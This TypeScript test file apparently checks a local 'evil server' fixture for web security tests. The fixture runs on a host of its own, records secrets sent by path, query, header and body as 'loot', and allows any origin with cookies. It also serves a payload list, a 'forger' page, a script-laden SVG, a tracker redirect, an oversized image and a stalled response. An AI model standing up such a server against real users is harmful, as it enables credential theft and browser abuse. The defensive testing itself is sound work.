import assert from 'node:assert/strict';
import { test } from 'node:test';
import { freshWorld } from './support/fresh-world.js';

const world = await freshWorld();

test('the evil server is on a host of its own', () => {
  const hosts = [world.host.origin(), world.host.origin('127.0.0.1'), world.idp.origin, world.evil.origin];
  assert.deepEqual(
    hosts.map((origin) => new URL(origin).hostname),
    ['localhost', '127.0.0.1', '127.0.0.1', '127.0.0.2'],
  );
  assert.equal(new Set(hosts).size, 4);
});

test('it records what it gets, wherever that is hidden', async () => {
  await fetch(`${world.evil.origin}/collect/secret-path?in=secret-query`, {
    method: 'POST',
    headers: { 'x-csrf-token': 'secret-header' },
    body: 'secret-body',
  });
  for (const secret of ['secret-path', 'secret-query', 'secret-header', 'secret-body'])
    assert.ok(world.evil.loot.includes(secret), secret);
});

test('it lets every origin send and read, cookies too', async () => {
  const headers = { origin: 'http://localhost:1', 'access-control-request-headers': 'x-csrf-token' };
  const answer = await fetch(`${world.evil.origin}/any`, { method: 'OPTIONS', headers });
  assert.equal(answer.headers.get('access-control-allow-origin'), 'http://localhost:1');
  assert.equal(answer.headers.get('access-control-allow-credentials'), 'true');
  assert.equal(answer.headers.get('access-control-allow-headers'), 'x-csrf-token');
});

test('its pages send what a test gives them', async () => {
  const payloads = async (): Promise<unknown[]> =>
    (await (await fetch(`${world.evil.origin}/payloads.json`)).json()) as unknown[];
  assert.ok((await payloads()).length >= 40);
  world.evil.messages = [{ type: 'mine' }];
  assert.deepEqual(await payloads(), [{ type: 'mine' }]);
  const page = await (await fetch(world.evil.url('frame'))).text();
  assert.match(page, /<script type="module" src="\/forger\.js">/);
});

test('its pictures do harm', async () => {
  const get = (name: string) => fetch(`${world.evil.origin}/icons/${name}`, { redirect: 'manual' });
  assert.match(await (await get('scripted.svg')).text(), /<script>/);
  assert.equal((await get('elsewhere.png')).headers.get('location'), '/collect/tracker');
  assert.equal((await (await get('large.png')).arrayBuffer()).byteLength, 20 * 1024 * 1024);
  assert.equal((await get('password.png')).status, 401);
  const stalled = get('stalled.png');
  await world.evil.log.waitFor({ path: '/icons/stalled.png' });
  world.evil.reset();
  assert.equal((await stalled).status, 503);
});
